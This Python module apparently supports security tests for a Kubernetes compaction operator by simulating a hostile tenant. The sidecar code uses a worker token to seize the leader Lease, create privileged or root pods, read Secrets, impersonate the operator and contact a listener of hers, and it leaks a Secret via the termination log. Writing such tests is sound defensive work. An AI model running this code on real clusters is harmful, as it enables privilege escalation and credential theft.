"""Mallory, who may write policies and catalogs in a namespace and nothing else: what she writes there, what her code
does in pods, and a server of hers that hears what is sent to it.
"""

from __future__ import annotations

import asyncio
import json
import ssl
import subprocess
import sys
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Final

from compaction.api.names import COORDINATOR_LEASE, EXECUTOR_SERVICE_ACCOUNT, WORKER_SERVICE_ACCOUNT
from compaction.errors import ForbiddenError, InvalidObjectError
from compaction.kube.client.api import ApiClient
from compaction.kube.client.config import ApiConnection, static_token
from compaction.kube.client.transport import LEASES, Resource
from compaction.local.tenants import EDITOR, TenantAttempt, TenantTable, as_root, pod, with_the_node
from node.on_node import CLAIM, MOUNT, small
from support.clocks import PATIENCE_SECONDS, eventually
from support.cluster.by_kubectl import Cluster, Object
from tools.node.places import NODE_ADDRESS
from tools.node.running import RunningNode

MALLORY: Final = "mallory"
AGENT: Final = "mallory"
"""Her code says so in each request: the audit log tells what she asked for from what workers ask for."""
PORT: Final = 7666
LISTENER: Final = f"{NODE_ADDRESS}:{PORT}"
THEIRS, HERS = "compaction-drill-theirs", "hers"
"""Secrets: one that is for nobody, one whose owner lets her policies have it."""
CANARY, KEY = "canary-Ahz4ohje", "key-aeW9vooN"
"""In the values and among the keys of both."""
POLICIES: Final = "/apis/compaction.dev/v1alpha1/namespaces/{namespace}/compactionpolicies"

LISTEN = """
import json, socketserver, sys

class Handler(socketserver.BaseRequestHandler):
    def handle(self):
        self.request.settimeout(5)
        heard = b""
        try:
            while part := self.request.recv(65536):
                heard += part
        except OSError:
            pass
        print(json.dumps(heard.decode(errors="replace")), flush=True)

socketserver.ThreadingTCPServer.allow_reuse_address = True
socketserver.ThreadingTCPServer((sys.argv[1], int(sys.argv[2])), Handler).serve_forever()
"""
CODE = """
import json, os, socket, ssl, sys, urllib.error, urllib.request
from pathlib import Path

account = Path("/var/run/secrets/kubernetes.io/serviceaccount")
server = f"https://{os.environ['KUBERNETES_SERVICE_HOST']}:{os.environ['KUBERNETES_SERVICE_PORT']}"
trust = ssl.create_default_context(cafile=account / "ca.crt")

def ask(method, path, body=None, **more):
    headers = {"Authorization": f"Bearer {(account / 'token').read_text()}", "User-Agent": agent, **more}
    data = None if body is None else json.dumps(body).encode()
    kind = "application/merge-patch+json" if method == "PATCH" else "application/json"
    asked = urllib.request.Request(server + path, data, headers | {"Content-Type": kind}, method=method)
    try:
        with urllib.request.urlopen(asked, context=trust, timeout=60) as answer:
            return answer.status, json.load(answer)
    except urllib.error.HTTPError as error:
        return error.code, json.load(error)

agent, attempts, (host, port) = json.loads(sys.argv[1])
found = {}
for name, method, path, body, headers in attempts:
    wanted = body
    while True:
        if method == "PUT":
            # As it is now, but for what she changes.
            code, now = ask("GET", path)
            body = {**now, "spec": {**now.get("spec", {}), **wanted}} if code == 200 else wanted
        code, answer = ask(method, path, body, **headers)
        if (method, code) != ("PUT", 409):
            break
        # A renewal of the leader came between: a conflict is found before anything is forbidden.
    found[name] = [code, answer.get("message", "")]
with socket.create_connection((host, port)) as heard:
    heard.send(f"hello from {os.environ['HOSTNAME']}".encode())
seen = [Path(path, "cmdline").read_bytes().decode().split("\\0")[0] for path in Path("/proc").glob("[0-9]*")]
print(json.dumps({
    "found": found,
    "status": Path("/proc/self/status").read_text(),
    "mounts": [line.split()[1] for line in Path("/proc/self/mounts").read_text().splitlines()],
    "processes": seen,
}), flush=True)
Path("/dev/termination-log").write_text(f"error: {os.environ['A']}")
print(f"error: {os.environ['A']}", flush=True)
sys.exit(1)
"""
"""What her sidecar runs: it asks the API server with the worker's token, looks around, and ends with a Secret's value
as its last words.
"""
LAST_WORDS = "import os; open('/dev/termination-log', 'w').write('error: ' + os.environ['A']); raise SystemExit(3)"
ALOUD = "import os; print('error: ' + os.environ['A'], flush=True); raise SystemExit(3)"


@dataclass(frozen=True, slots=True)
class Tenant:
    """A namespace where she may write policies. `restricted`: it enforces Pod Security; `system`: the operator's."""

    node: RunningNode
    cluster: Cluster
    system: str
    restricted: bool

    @property
    def namespace(self) -> str:
        return self.cluster.namespace

    def connection(self, account: str = MALLORY) -> ApiConnection:
        """With a real token of an account of the namespace."""
        token = self.cluster.kubectl("create", "token", account).strip()
        trust = ssl.create_default_context(cafile=str(self.node.plane.authority.ca))
        return ApiConnection(self.node.plane.url, trust, static_token(token), namespace=self.namespace)

    def name(self, number: int) -> str:
        """Of the object of an attempt; the names of its logs begin with it, in one directory for all namespaces."""
        return f"{self.namespace}-{number:02}"

    def attempts(self) -> list[TenantAttempt]:
        """Those of the table, under names of their own, with her own server behind each URL and logs that owe work."""
        found = []
        for number, item in enumerate(TenantTable.read().attempts):
            body = json.loads(
                json.dumps(item.body)
                .replace("https://etcd:2379", f"https://{LISTENER}")
                .replace("https://tenant.example", f"https://{LISTENER}")
                .replace("s3://tenant/", f"s3://{self.namespace}/")
            )
            body["metadata"] = {"name": self.name(number)}
            if body["spec"].get("store") == TenantTable.read().usual["spec"]["store"]:
                body["spec"] = self.policy_spec(self.name(number), **body["spec"].get("workers", {}))
            found.append(TenantAttempt(item.name, item.resource, body, item.says, item.operator))
        return found

    def policy_spec(self, name: str, **workers: Any) -> Object:
        """For the logs whose names begin with its own."""
        ours = {"launcher": "pod", "max": 1, "slots": 1, "idleSeconds": 5, "driver": small()}
        logs = {"root": MOUNT, "include": [f"{name}-*"], "volume": {"claimName": CLAIM}}
        found: Object = {"store": {"segmentLogs": logs}, "trigger": {"interval": "2s"}, "workers": ours | workers}
        return found | {"lease": {"durationSeconds": 10}, "cleanup": {"delay": "1h"}}

    def write(self, attempts: Sequence[tuple[Resource, Object]], *, dry: bool = False) -> list[str]:
        """Create each object as Mallory: why the API server refused it, or nothing."""
        return asyncio.run(created(self.connection(), attempts, dry=dry))


async def created(connection: ApiConnection, objects: Sequence[tuple[Resource, Object]], *, dry: bool) -> list[str]:
    """See `Tenant.write`."""
    async with ApiClient(connection, user_agent=AGENT) as client:

        async def one(resource: Resource, body: Object) -> str:
            path = resource.path(namespace=connection.namespace)
            try:
                await client.request("POST", f"{path}?dryRun=All" if dry else path, body=body)
            except (ForbiddenError, InvalidObjectError) as error:
                return str(error)
            return ""

        return await asyncio.gather(*(one(resource, body) for resource, body in objects))


@contextmanager
def living_in(tenant: Tenant) -> Iterator[None]:
    """Her account, and the Secrets of others; gone again."""
    kubectl = tenant.cluster.kubectl
    kubectl("create", "serviceaccount", MALLORY)
    bound = f"--serviceaccount={tenant.namespace}:{MALLORY}"
    kubectl("create", "rolebinding", MALLORY, f"--clusterrole={EDITOR}", bound)
    # Everything that would lead to her server, had the operator used it.
    values = {"url": f"postgresql://u:{CANARY}@{LISTENER}/d", "endpoint": f"http://{LISTENER}", "region": "us-east-1"}
    values |= dict.fromkeys(["access_key_id", "secret_access_key", "username", "password", "token", "secret"], CANARY)
    literals = [f"--from-literal={key}={value}" for key, value in (values | {KEY: CANARY, "a": CANARY}).items()]
    for name in (THEIRS, HERS):
        kubectl("create", "secret", "generic", name, *literals)
    kubectl("annotate", "secret", HERS, "compaction.dev/used-by=CompactionPolicy/*")
    try:
        yield
    finally:
        kubectl("delete", "secret", THEIRS, HERS)
        kubectl("delete", f"rolebinding/{MALLORY}", f"serviceaccount/{MALLORY}")


@contextmanager
def listening(node: RunningNode, log: Path) -> Iterator[Path]:
    """Her server on the node's address, which pods reach: a line for each connection, with all that was said."""
    command = [
        "nsenter",
        f"--target={node.first}",
        "--net",
        "--",
        sys.executable,
        "-c",
        LISTEN,
        NODE_ADDRESS,
        str(PORT),
    ]
    with log.open("w") as heard:
        server = subprocess.Popen(command, stdout=heard, stdin=subprocess.DEVNULL)
    try:
        yield log
    finally:
        server.terminate()
        server.wait(PATIENCE_SECONDS)


def templates(tenant: Tenant, image: str) -> dict[str, Object]:
    """Policies that nothing refuses, with code of hers in their pods: name -> what they say of workers."""
    hers = {"name": "A", "valueFrom": {"secretKeyRef": {"name": HERS, "key": "a"}}}
    container: Object = {"image": image, "imagePullPolicy": "IfNotPresent", "env": [hers]}
    if tenant.restricted:
        container["securityContext"] = {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}}
    asked = json.dumps([AGENT, of_her_code(tenant), [NODE_ADDRESS, PORT]])
    sidecar = container | {"name": "sidecar", "command": ["python3", "-c", CODE, asked]}
    init = container | {"name": "first", "command": ["python3", "-c", LAST_WORDS]}
    hook = {"postStart": {"exec": {"command": ["python3", "-c", ALOUD]}}}
    specs: dict[str, Object] = {
        "sidecar": {"containers": [sidecar]},
        "init": {"initContainers": [init]},
        "hook": {"containers": [{"name": "worker", "env": [hers], "lifecycle": hook}]},
    }
    long = {"idleSeconds": 600}
    return {f"{tenant.namespace}-{name}": {"podTemplate": {"spec": spec}} | long for name, spec in specs.items()}


def of_her_code(tenant: Tenant) -> list[tuple[str, str, str, Object | None, dict[str, str]]]:
    """What her code asks of the API server as the worker: name, method, path, body, headers."""
    namespace, system = tenant.namespace, tenant.system
    pods, secrets = f"/api/v1/namespaces/{namespace}/pods", f"/api/v1/namespaces/{namespace}/secrets"
    leases = LEASES.path(namespace=system)
    lease = {"apiVersion": LEASES.api_version, "kind": LEASES.kind, "metadata": {"name": COORDINATOR_LEASE}}
    executor, policies = pod(EXECUTOR_SERVICE_ACCOUNT), POLICIES.format(namespace=namespace)
    accounts = f"/api/v1/namespaces/{system}/serviceaccounts"
    token = {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {}}
    impersonating = {"Impersonate-User": f"system:serviceaccount:{system}:compaction-operator"}
    return [
        ("lead", "PUT", f"{leases}/{COORDINATOR_LEASE}", {"holderIdentity": AGENT}, {}),
        ("end the leader", "DELETE", f"{leases}/{COORDINATOR_LEASE}", None, {}),
        ("make a Lease of leaders", "POST", LEASES.path(namespace=namespace), lease, {}),
        ("a pod as the operator", "POST", pods, pod("compaction-operator"), {}),
        ("a pod as a worker", "POST", pods, pod(WORKER_SERVICE_ACCOUNT), {}),
        ("a pod as another account", "POST", pods, pod("default"), {}),
        ("a pod with the disk of the node", "POST", pods, with_the_node(executor), {}),
        ("a pod as root", "POST", pods, as_root(executor), {}),
        ("read a Secret", "GET", f"{secrets}/{THEIRS}", None, {}),
        ("list Secrets", "GET", secrets, None, {}),
        ("read a Secret as the operator", "GET", f"{secrets}/{THEIRS}", None, impersonating),
        ("a token of the operator", "POST", f"{accounts}/compaction-operator/token", token, {}),
        ("list policies", "GET", policies, None, {}),
        ("change a policy", "PATCH", f"{policies}/{namespace}-honest", {"spec": {"suspend": True}}, {}),
    ]


def said_by_her_code(tenant: Tenant) -> Object:
    """What the sidecar found out, once it has."""

    def line() -> Object | None:
        policy = f"compaction.dev/policy={tenant.namespace}-sidecar,compaction.dev/component=worker"
        for found in tenant.cluster.list("pod", labels=policy):
            log = tenant.cluster.kubectl("logs", found["metadata"]["name"], "-c", "sidecar", check=False)
            said = next((line for line in log.splitlines() if line.startswith('{"found"')), None)
            if said is not None:
                answer: Object = json.loads(said)
                return answer
        return None

    return eventually(line, f"the sidecar of {tenant.namespace} to say what it found")


def told(cluster: Cluster) -> str:
    """What everybody reads who may see policies: objects of ours, as they are kept, and all Events."""
    return cluster.kubectl("get", "cpol,cjob,ccat,lease,event", "-o", "yaml", "--show-managed-fields")
